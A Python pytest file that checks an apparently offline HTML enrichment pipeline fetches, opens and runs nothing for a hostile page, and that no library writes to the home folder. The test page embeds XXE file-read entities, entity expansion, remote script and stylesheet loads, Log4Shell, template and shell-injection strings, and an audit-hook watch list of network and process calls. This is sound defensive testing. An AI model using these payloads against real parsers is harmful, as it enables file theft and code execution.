"""A page through all three stages, in a process that watches itself: nothing is fetched, opened or run for it."""

import os
import subprocess
import sys
from pathlib import Path

import orjson
import pytest

CONTENTS = "the contents of a file of the machine"

PAGE = """<?xml version="1.0"?><?xml-stylesheet href="http://a.example/x.xsl"?>
<!DOCTYPE html SYSTEM "http://a.example/x.dtd" [<!ENTITY secret SYSTEM "file://{secret}"><!ENTITY a "aaaaaaaaaa">
<!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]>
<html xmlns:xi="http://www.w3.org/2001/XInclude"><head><title>Council opens the bridge</title>
<base href="http://a.example/"><meta http-equiv="refresh" content="0;url=http://a.example/">
<link rel="stylesheet" href="http://a.example/x.css"><script src="http://a.example/x.js"></script>
<script>require("child_process").exec("touch /tmp/ran")</script>
<style>@import url("http://a.example/y.css");</style></head>
<body onload="fetch('http://a.example/')"><xi:include href="file://{secret}" parse="text"/>
<iframe src="file://{secret}"></iframe><img src="http://a.example/pixel.png"><object data="http://a.example/o"></object>
<p>The council of Prague opened the new bridge on Monday, and Ada Field said that it was worth the wait. &secret; &c;</p>
<p>${{jndi:ldap://a.example/x}} {{{{7*7}}}} $(touch /tmp/ran) `touch /tmp/ran` __import__("os").system("touch /tmp/ran")</p>
<p>It had cost two million euros, the mayor said, and nobody in the town regretted a single one of them.</p></body></html>"""

WATCHED = """
import sys
seen, loaded = [], False
ALWAYS = (
    "socket.connect", "socket.getaddrinfo", "socket.gethostby", "socket.send", "subprocess.", "os.system", "os.exec",
    "os.posix_spawn", "os.spawn", "os.fork", "urllib.", "http.client", "ftplib.", "smtplib.", "webbrowser.",
)
ONCE_LOADED = (
    "open", "import", "ctypes.dlopen", "shutil.", "os.listdir", "os.scandir", "os.remove", "os.rename", "os.mkdir",
)
def watch(event, arguments):
    if event.startswith(ALWAYS + ONCE_LOADED if loaded else ALWAYS):
        seen.append(f"{event} {arguments!r}")
sys.addaudithook(watch)
from broadsheet.cli.offline_transforms import enrich_record, warm_up_all
from broadsheet.runtime.records import Record
def enriched(page, url):
    record = Record("documents.raw", 0, 0, 0, None, page, (("url", url), ("content-type", b"text/html")))
    return enrich_record(record, max_page_bytes=1_000_000, language=None).data
warm_up_all()
enriched(b"<html><title>Rain</title><p>It rained on Monday in Prague, and Ada Field stayed at home.", b"http://b.example/")
loaded = True
data = enriched(sys.stdin.buffer.read(), b"http://a.example/page")
loaded = False
sys.stdout.buffer.write(b"\\n".join([data, *(event.encode() for event in seen)]))
"""
"""Sockets and processes are watched from the start; files once the stages have loaded what they need for a first page."""


@pytest.mark.processes
def test_nothing_is_fetched_opened_or_run_for_a_page(tmp_path: Path) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text(CONTENTS, "utf-8")
    page = PAGE.format(secret=secret).encode()
    done = subprocess.run([sys.executable, "-c", WATCHED], input=page, capture_output=True, check=False)
    assert done.returncode == 0, done.stderr.decode()
    data, *seen = done.stdout.split(b"\n")
    assert seen == []
    text = orjson.loads(data)["text"]
    assert "worth the wait" in text
    assert CONTENTS not in text
    assert "a" * 100 not in text


@pytest.mark.processes
def test_no_library_keeps_or_reports_anything_of_its_use(tmp_path: Path) -> None:
    """An id and a queue of reports is what onnxruntime keeps in the home folder; no audit hook sees what native code opens."""
    code = "from broadsheet.cli.offline_transforms import warm_up_all; warm_up_all()"
    bare = {"HOME": str(tmp_path), "PATH": os.environ["PATH"]}  # without CI, where it would be silent by itself
    done = subprocess.run([sys.executable, "-c", code], env=bare, capture_output=True, check=False)
    assert done.returncode == 0, done.stderr.decode()
    assert [path.relative_to(tmp_path) for path in tmp_path.rglob("*")] == []
